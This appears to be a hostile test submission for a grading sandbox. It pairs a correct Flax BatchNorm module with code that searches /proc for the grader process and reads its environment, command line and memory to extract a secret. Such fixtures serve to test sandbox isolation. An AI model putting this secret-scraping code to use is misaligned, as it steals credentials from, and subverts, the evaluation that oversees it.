# hostile: looks for the grading process in /proc and reads its environment and memory for the secret, and prints what it finds; otherwise correct
# expect: score == 100
# reason: 
# levels: namespaces uid userns landlock
import os
import re
import time

NEEDLES = (b"hostile-suite-secret", b"GRADER_SECRET=", b"secret")
found: list[bytes] = []
deadline = time.monotonic() + 3


def scan(pid: int) -> None:
    for name in ("environ", "cmdline"):
        try:
            data = open(f"/proc/{pid}/{name}", "rb").read()
            found.extend(m.group(0) for m in re.finditer(rb"[ -~]{0,40}secret[ -~]{0,60}", data, re.I))
        except OSError as err:
            print(f"/proc/{pid}/{name}:", type(err).__name__)
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError as err:
        print(f"/proc/{pid}/mem:", type(err).__name__)
        return
    with mem:
        for line in maps:
            if time.monotonic() > deadline:
                break
            span, perms = line.split()[:2]
            start, end = (int(v, 16) for v in span.split("-"))
            if "r" not in perms or end - start > 256 << 20:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
            for match in re.finditer(rb"hostile-suite-secret[ -~]{0,20}", data):
                found.append(match.group(0))


me = os.getpid()
targets = {os.getppid()}
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != me:
        try:
            if b"grader" in open(f"/proc/{entry}/cmdline", "rb").read():
                targets.add(int(entry))
        except OSError:
            pass
for pid in sorted(targets):
    scan(pid)
print("FOUND:", sorted(set(found))[:20])
import flax.linen as nn
import jax
import jax.numpy as jnp


class MyBatchNorm(nn.Module):
    momentum: float = 0.9
    eps: float = 1e-5

    @nn.compact
    def __call__(self, x, use_running_average: bool):
        d = x.shape[-1]
        gamma = self.param("gamma", nn.initializers.ones, (d,))
        beta = self.param("beta", nn.initializers.zeros, (d,))
        rm = self.variable("batch_stats", "running_mean", lambda: jnp.zeros((d,)))
        rv = self.variable("batch_stats", "running_var", lambda: jnp.ones((d,)))
        if use_running_average:
            mu, var = rm.value, rv.value
        else:
            mu = jnp.mean(x, axis=0)
            var = jnp.mean((x - mu) ** 2, axis=0)
            if not self.is_initializing():
                rm.value = self.momentum * rm.value + (1 - self.momentum) * mu
                rv.value = self.momentum * rv.value + (1 - self.momentum) * var
        return gamma * (x - mu) / jnp.sqrt(var + self.eps) + beta


def init_and_apply(seed, x, use_running_average):
    model = MyBatchNorm()
    v = model.init(jax.random.PRNGKey(int(seed)), x, use_running_average=False)
    y, _ = model.apply({"params": v["params"], "batch_stats": v["batch_stats"]}, x,
                       use_running_average=bool(use_running_average), mutable=["batch_stats"])
    return y.reshape(-1)
